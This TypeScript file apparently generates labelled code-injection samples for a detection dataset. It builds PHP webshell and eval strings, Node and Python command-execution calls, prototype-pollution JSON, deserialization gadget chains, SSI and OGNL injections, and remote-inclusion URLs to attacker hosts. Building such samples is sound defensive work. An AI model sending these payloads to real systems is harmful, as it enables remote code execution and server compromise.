import type { PayloadSample } from '../payload-sample.js';
import type { Rng } from '../rng.js';
import { ATTACKER_HOSTS, INJECTED_COMMANDS } from '../templates.js';
import { distinctSamples } from './distinct.js';

/** Code injection in the languages web backends evaluate, plus deserialization and prototype pollution. */
export function generateCodeInjection(rng: Rng, count: number): PayloadSample[] {
  return distinctSamples('code-injection', 'code_injection', count, rng, (r) => {
    const cmd = r
      .pick(INJECTED_COMMANDS)
      .replace(/\{H\}/g, () => r.pick(ATTACKER_HOSTS))
      .replace(/\{R\}/g, 'x');
    const host = r.pick(ATTACKER_HOSTS);
    const prop = r.pick([
      'isAdmin',
      'admin',
      'role',
      'polluted',
      'shell',
      'NODE_OPTIONS',
      'execArgv',
      'outputFunctionName',
    ]);
    return r.weighted<() => string>([
      [() => `<?php ${r.pick(['system', 'passthru', 'shell_exec', 'exec'])}("${cmd}"); ?>`, 2],
      [
        () =>
          `<?=${r.pick(['`' + cmd + '`', `system($_GET['${r.pick(['c', 'cmd', 'x'])}'])`, 'phpinfo()'])};?>`,
        1,
      ],
      [
        () =>
          `${r.pick(["';", '";', '', ');'])}${r.pick(['eval', 'assert', 'system'])}(${r.pick([`base64_decode('${Buffer.from(`system('${cmd}');`).toString('base64')}')`, `$_POST['${r.pick(['x', 'cmd'])}']`, `'${cmd}'`])});${r.pick(['//', '#', ''])}`,
        2,
      ],
      [() => `__import__('os').${r.pick(['system', 'popen'])}('${cmd}')${r.pick(['', '.read()'])}`, 2],
      [
        () =>
          `${r.pick(['', "';", '");'])}eval(compile(${r.pick(['"import os;os.system(\\"' + cmd + '\\")"', "'__import__(\\'os\\').system(\\'id\\')'"])}, '<x>', 'exec'))`,
        1,
      ],
      [() => `require('child_process').${r.pick(['exec', 'execSync', 'spawnSync'])}('${cmd}')`, 2],
      [
        () =>
          `${r.pick(['', "'+", '";'])}process.mainModule.require('child_process').execSync('${cmd}').toString()${r.pick(['', "+'", '//'])}`,
        1,
      ],
      [
        () =>
          `this.constructor.constructor('return process')().mainModule.require('child_process').execSync('${cmd}')`,
        1,
      ],
      [
        () =>
          `{"__proto__": {"${prop}": ${r.pick(['true', '1', '"yes"', `"--require /proc/self/environ"`])}}}`,
        2,
      ],
      [() => `{"constructor": {"prototype": {"${prop}": ${r.pick(['true', '1'])}}}}`, 1],
      [() => `__proto__[${prop}]=${r.pick(['true', '1', 'x'])}`, 1],
      [
        () =>
          `O:${r.int(4, 20)}:"${r.pick(['Monolog\\Handler\\SyslogUdpHandler', 'GuzzleHttp\\Cookie\\FileCookieJar', 'App\\Logger', 'stdClass'])}":1:{s:${r.int(3, 9)}:"${r.pick(['socket', 'filename', 'cmd', 'data'])}";s:${cmd.length}:"${cmd}";}`,
        2,
      ],
      [() => `a:2:{i:0;s:${cmd.length}:"${cmd}";i:1;O:8:"stdClass":0:{}}`, 0.5],
      [
        () =>
          `rO0ABXNy${Buffer.from(`org.apache.commons.collections.functors.InvokerTransformer${cmd}`).toString('base64').slice(0, r.int(40, 120))}`,
        1,
      ],
      [() => `!!python/object/apply:os.system ["${cmd}"]`, 1],
      [
        () =>
          `--- !ruby/object:Gem::Installer\ni: x\n- !ruby/object:Gem::Requirement\n  requirements: !ruby/object:Gem::DependencyList\n    git_set: ${cmd}`,
        0.5,
      ],
      [
        () =>
          `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"},"MethodParameters":{"$values":["cmd","/c ${cmd}"]}}`,
        0.5,
      ],
      [() => `<!--#exec cmd="${cmd}" -->`, 1],
      [() => `<!--#include virtual="/etc/${r.pick(['passwd', 'shadow'])}" -->`, 0.5],
      [() => `<esi:include src="http://${host}/${r.pick(['x', 'esi.html'])}" />`, 0.5],
      [
        () =>
          `${r.pick(['http', 'https', 'ftp'])}://${host}/${r.pick(['shell', 'c99', 'r57', 'cmd', 'x'])}.${r.pick(['txt', 'php', 'gif'])}?${r.pick(['', '?', 'cmd=id', '%00'])}`,
        2,
      ],
      [
        () =>
          `${r.pick(['php://input', 'data://text/plain;base64,' + Buffer.from(`<?php system('${cmd}'); ?>`).toString('base64'), 'expect://' + cmd.split(' ')[0]])}`,
        1,
      ],
      [
        () =>
          `\${${r.pick(['Runtime.getRuntime().exec', 'java.lang.Runtime.getRuntime().exec'])}("${cmd}")}`
            .replace('${', '@{')
            .replace('@{', r.pick(['${', '#{', '%{'])),
        1,
      ],
      [
        () =>
          `%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('${cmd}'))}`,
        0.5,
      ],
    ])();
  });
}
